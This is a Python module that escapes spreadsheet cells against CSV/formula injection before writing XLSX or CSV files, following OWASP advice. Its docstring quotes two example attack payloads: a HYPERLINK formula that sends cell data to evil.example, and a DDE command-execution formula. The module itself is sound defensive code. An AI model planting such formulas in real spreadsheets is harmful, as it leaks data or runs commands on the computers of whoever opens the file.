"""Every cell Xã số writes to a spreadsheet (XLSX or CSV) goes through here, so that text a person
typed is shown as text and never run as a formula (OWASP's CSV-injection rule).

A value is dangerous when it is text that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return: Excel and LibreOffice read `=HYPERLINK("http://evil.example/?x="&A1,"Bấm")` or
`+cmd|' /C calc'!A0` in a CSV as a formula, and openpyxl writes any text starting with "=" as one.
- XLSX (`xlsx_value`, `set_cell`, `append_row`): text stays exactly what was typed, stored as a
  string (data type "s") with the quote-prefix style, so the spreadsheet shows it as text and does
  not turn it into a formula when someone edits the cell;
- CSV (`csv_value`, `csv_row`): the text gets a leading single quote, as OWASP advises.
Numbers, dates and booleans are never touched: -5 stays the number -5.

It lives in the documents app because that app owns every file format Xã số writes; the dashboard,
the Decree 30 annexes, the activities template, the province roll-up and the back office's list
downloads all call it.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_value(value: Any) -> Any:
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_value(value) for value in values]


def set_cell(cell: Any, value: Any) -> Any:
    """Put `value` in an openpyxl cell (normal or write-only) as inert text when it is text."""
    cell.value = value
    if isinstance(value, str):
        # openpyxl makes every "=…" a formula; a typed value never is one.
        cell.data_type = "s"
        if is_formula_like(value):
            cell.quotePrefix = True
    return cell


def xlsx_value(sheet: Any, value: Any) -> Any:
    """A write-only cell for `sheet.append([...])` holding `value` as `set_cell` would."""
    from openpyxl.cell import WriteOnlyCell

    return set_cell(WriteOnlyCell(sheet), value)


def append_row(sheet: Any, values: Iterable[Any]) -> int:
    """Append one row to a normal worksheet, every cell through `set_cell`; returns its number."""
    row = sheet.max_row + 1 if sheet.max_row > 1 or sheet.cell(row=1, column=1).value is not None else 1
    for column, value in enumerate(values, start=1):
        set_cell(sheet.cell(row=row, column=column), value)
    return row
